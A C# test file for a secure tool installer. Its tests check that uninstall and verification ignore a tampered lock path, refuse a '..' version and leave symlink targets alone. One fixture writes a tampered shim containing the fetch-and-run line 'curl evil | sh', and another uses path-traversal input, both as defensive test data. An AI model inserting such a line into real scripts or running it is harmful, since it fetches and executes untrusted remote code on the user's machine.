using SecureInstall.Core.Install;

namespace SecureInstall.Core.Tests.HostileLocalState;

/// <summary>
/// Issue 17 #4: a lock's installedPath (lockVersion 1; issue 20 moved it out of the lock) is reported, never obeyed. Uninstall and verification derive
/// &lt;root&gt;/&lt;tool&gt;/&lt;version&gt; from checked names, and delete only shims they can prove they wrote.
/// </summary>
public sealed class InstallLockPathTests : IDisposable
{
    private readonly InstalledToolSandbox _box = new();

    public void Dispose() => _box.Dispose();

    private ToolInstallerOptions Options => new() { Root = _box.Root };

    /// <summary>A folder outside the install root, with a "bin" beside it holding small files that mention it (what the old uninstall deleted).</summary>
    private string Victim()
    {
        string victim = Path.Combine(_box.Path, "victim", "project", "src");
        _box.File(Path.Combine("victim", "project", "src", "main.c"), "precious");
        _box.File(Path.Combine("victim", "bin", "notes.sh"), "cd " + victim + Path.DirectorySeparatorChar + "\n");
        return victim;
    }

    [Fact]
    public async Task TamperedLockPath_IsReported_AndNothingOutsideTheRootIsDeleted()
    {
        await _box.InstallSample();
        string victim = Victim();
        _box.WriteLegacyLock(victim);
        LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();

        UninstallResult removed = ToolUninstaller.Uninstall(Options, entry, _box.LockPath);

        Assert.Equal("precious", File.ReadAllText(Path.Combine(victim, "main.c")));
        Assert.True(File.Exists(Path.Combine(_box.Path, "victim", "bin", "notes.sh")));
        Assert.Equal(victim, removed.RecordedPath);
        Assert.Equal(_box.VersionDir, removed.Path);
        Assert.False(Directory.Exists(_box.VersionDir));
        Assert.False(File.Exists(InstallRootLayout.TreeRecordPath(_box.VersionDir)));
        Assert.Empty(InstallLock.Load(_box.LockPath).Entries);
    }

    [Fact]
    public async Task TamperedLockPath_IsReportedByVerify_AndOnlyTheDerivedTreeIsChecked()
    {
        await _box.InstallSample();
        string victim = Victim();
        _box.WriteLegacyLock(victim);
        InstalledToolStatus status = _box.Verify();
        Assert.Equal(victim, status.RecordedPath);
        Assert.Equal(_box.VersionDir, status.Path);
        Assert.Equal(InstalledState.Tampered, status.Status);
        Assert.Empty(status.Changed); // the tree where the root keeps it is intact; the lock is what disagrees
        Assert.Equal(ErrorIds.LockPathMismatch, new LockPathMismatchException("tool", "1.0", victim, _box.VersionDir, "").ErrorId);
    }

    [Fact]
    public async Task LockPathElsewhere_AndNothingInstalledHere_UninstallRefuses_AndKeepsTheEntry()
    {
        await _box.InstallSample();
        string victim = Victim();
        _box.WriteLegacyLock(victim);
        LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();
        var other = new ToolInstallerOptions { Root = Path.Combine(_box.Path, "other-root") };

        var ex = Assert.Throws<LockPathMismatchException>(() => ToolUninstaller.Uninstall(other, entry, _box.LockPath));

        Assert.Equal(ErrorIds.LockPathMismatch, ex.ErrorId);
        Assert.True(File.Exists(Path.Combine(victim, "main.c")));
        Assert.Single(InstallLock.Load(_box.LockPath).Entries);
    }

    [Fact]
    public async Task LockNamingAFolderAboveTheTool_IsRefused_AndNothingIsDeleted()
    {
        await _box.InstallSample();
        // version ".." makes <root>/tool/.. = the root itself: the old uninstall removed every installed tool.
        string json = File.ReadAllText(_box.LockPath).Replace("\"1.0\"", "\"..\"");
        File.WriteAllText(_box.LockPath, json);
        LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();

        var ex = Assert.Throws<InstallException>(() => ToolUninstaller.Uninstall(Options, entry, _box.LockPath));
        Assert.Equal(ErrorIds.ManifestInvalid, ex.ErrorId);
        Assert.Throws<InstallException>(() => InstalledToolVerifier.Verify(_box.Root, entry));
        Assert.True(Directory.Exists(_box.VersionDir));
    }

    [Fact]
    public async Task Uninstall_DeletesOnlyShimsItWrote_ForThisToolAndVersion()
    {
        await _box.InstallSample();
        string shim = Path.Combine(_box.Bin, OperatingSystem.IsWindows() ? "tool.cmd" : "tool");
        // Small files in bin that mention the install path: a user's script, and a shim someone edited.
        string mine = _box.File(Path.Combine("root", "bin", "my-script"), "exec '" + _box.VersionDir + Path.DirectorySeparatorChar + "bin/tool' --extra\n");
        string edited = Path.Combine(_box.Bin, "edited");
        File.WriteAllText(edited, File.ReadAllText(shim).Replace("exec ", "curl evil | sh; exec "));
        LockEntry entry = InstallLock.Load(_box.LockPath).Entries.Single();

        UninstallResult removed = ToolUninstaller.Uninstall(Options, entry, _box.LockPath);

        Assert.Equal(new[] { shim }, removed.Shims);
        Assert.False(File.Exists(shim));
        Assert.True(File.Exists(mine));
        Assert.True(File.Exists(edited));
        Assert.Null(removed.RecordedPath);
    }

    [SkippableFact]
    public async Task Uninstall_OfAVersionFolderReplacedByALink_RemovesTheLink_NotWhatItPointsAt()
    {
        Skip.If(OperatingSystem.IsWindows(), "symbolic links need privileges on Windows");
        await _box.InstallSample();
        string victim = Victim();
        Directory.Delete(_box.VersionDir, recursive: true);
        Directory.CreateSymbolicLink(_box.VersionDir, victim);
        ToolUninstaller.Uninstall(Options, InstallLock.Load(_box.LockPath).Entries.Single(), _box.LockPath);
        Assert.False(File.Exists(_box.VersionDir) || Directory.Exists(_box.VersionDir));
        Assert.Equal("precious", File.ReadAllText(Path.Combine(victim, "main.c")));
    }

    [SkippableFact]
    public async Task Reinstall_OverAVersionFolderReplacedByALink_ReplacesTheLink_AndLeavesItsTargetAlone()
    {
        Skip.If(OperatingSystem.IsWindows(), "symbolic links need privileges on Windows");
        LockEntry entry = await _box.InstallSample();
        string victim = Victim();
        Directory.Delete(_box.VersionDir, recursive: true);
        Directory.CreateSymbolicLink(_box.VersionDir, victim);

        InstallResult again = await _box.Install(_box.Manifest("tools:\n" + InstalledToolSandbox.Tool("tool", "1.0", entry.Url, entry.Sha256, "bin/tool")), "tool");

        Assert.Equal(InstallStatus.Installed, again.Status);
        Assert.Equal("precious", File.ReadAllText(Path.Combine(victim, "main.c")));
        Assert.True(UnixFileSystemProbe.IsRealDirectory(_box.VersionDir));
        Assert.Equal(InstalledState.Verified, _box.Verify().Status);
    }

    [Fact]
    public async Task AlreadyInstalled_DropsTheLegacyLocksPath_AndTheRootRecordsWhereTheTreeVerified()
    {
        LockEntry entry = await _box.InstallSample();
        _box.WriteLegacyLock("/home/someone-else/.local/share/secureinstall/tools/tool/1.0");
        InstallResult again = await _box.Install(_box.Manifest("tools:\n" + InstalledToolSandbox.Tool("tool", "1.0", entry.Url, entry.Sha256, "bin/tool")), "tool");
        Assert.Equal(InstallStatus.AlreadyInstalled, again.Status);
        Assert.DoesNotContain("installedPath", File.ReadAllText(_box.LockPath));
        Assert.Equal(string.Empty, InstallLock.Load(_box.LockPath).Entries.Single().InstalledPath);
        Assert.Equal("bin/tool", InstallRootState.Load(_box.Root).Find("tool", "1.0")!.Shims["tool"]);
        Assert.Null(_box.Verify().RecordedPath);
    }
}

internal static class UnixFileSystemProbe
{
    public static bool IsRealDirectory(string path) =>
        global::SecureInstall.Core.IO.UnixFileSystem.TryGetEntry(path, out global::SecureInstall.Core.IO.FileStatus e) && e.Kind == global::SecureInstall.Core.IO.UnixEntryKind.Directory;
}
